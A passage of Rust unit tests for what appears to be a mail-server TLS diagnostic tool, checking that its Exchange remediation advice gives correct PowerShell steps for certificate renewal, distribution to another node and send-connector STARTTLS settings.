    let mut obs = as_server(observed(HOST, HOST, Vec::new(), &w.trust), "exchange");
    expired(&mut obs);
    let f = run(&obs, &Policy::default());
    let fix = &find(&f, Code::CertExpired).fix;
    let cmds: Vec<&str> = fix.commands().map(|(_, c)| c).collect();
    assert!(
        !cmds.iter().any(|c| c.starts_with("Set-SendConnector \"")),
        "a Set- cmdlet takes no wildcard identity:\n{fix}"
    );
    assert!(
        cmds.iter().any(|c| c.contains(
            "Get-SendConnector | Where-Object Name -like 'Outbound to Office 365*' | Set-SendConnector -TlsCertificateName $n"
        )),
        "{fix}"
    );
    assert!(
        cmds.iter()
            .any(|c| c.starts_with("Restart-Service") && c.contains("MSExchangeTransport")),
        "send connectors belong to the Transport service:\n{fix}"
    );
    assert!(
        fix.text().contains("TlsCertificateName"),
        "a renewal resets TlsCertificateName (exchange-config.md §2.1):\n{fix}"
    );
}

#[test]
fn copying_the_good_certificate_says_to_carry_the_file_to_the_odd_node() {
    let w = world();
    let good = as_server(
        observed(HOST, HOST, chain_for(&w, &[HOST]), &w.trust),
        "exchange",
    );
    let selfie =
        crate::scripted::pki::self_signed(&LeafSpec::valid_for("EXCH02", NOW, 900)).unwrap();
    let mut odd = as_server(
        observed(HOST, HOST, vec![selfie.chain[0].to_vec()], &w.trust),
        "exchange",
    );
    odd.endpoint.address = SocketAddr::from(([192, 0, 2, 11], 25));
    let seen = vec![Evidence::derive(good, NOW), Evidence::derive(odd, NOW)];
    let f = find(&cross::rules(&seen), Code::EndpointsInconsistent).clone();
    let text = f.fix.text();
    let export = text.find("WriteAllBytes").unwrap();
    let copy = text.find("Copy C:\\certs\\mail.pfx").unwrap_or(usize::MAX);
    let import = text.find("Import-ExchangeCertificate").unwrap();
    assert!(export < copy && copy < import, "{text}");
}

#[test]
fn exchange_online_without_the_address_it_saw_says_what_to_look_up() {
    let obs = eop_without_starttls("BN8NAM11FT012.mail.protection.outlook.com Hello");
    let f = run(&obs, &Policy::default());
    let text = find(&f, Code::StarttlsNotOffered).fix.text();
    assert!(!text.contains("[the address"), "{text}");
    assert!(text.contains("public address"), "{text}");
}

#[test]
fn exchange_without_starttls_resets_a_stale_certificate_name() {
    let w = world();
    let mut obs = as_server(observed(HOST, HOST, Vec::new(), &w.trust), "exchange");
    no_starttls(&mut obs);
    let f = run(&obs, &Policy::default());
    let fix = &find(&f, Code::StarttlsNotOffered).fix;
    let cmds: Vec<&str> = fix.commands().map(|(_, c)| c).collect();
    assert!(
        cmds.iter().any(|c| c.contains("-TlsCertificateName")),
        "after a renewal TlsCertificateName still names the old certificate:\n{fix}"
    );
    assert!(
        cmds.iter()
            .all(|c| !c.contains("-AuthMechanism") || c.contains("-notcontains 'Tls'")),
        "{fix}"
    );
}
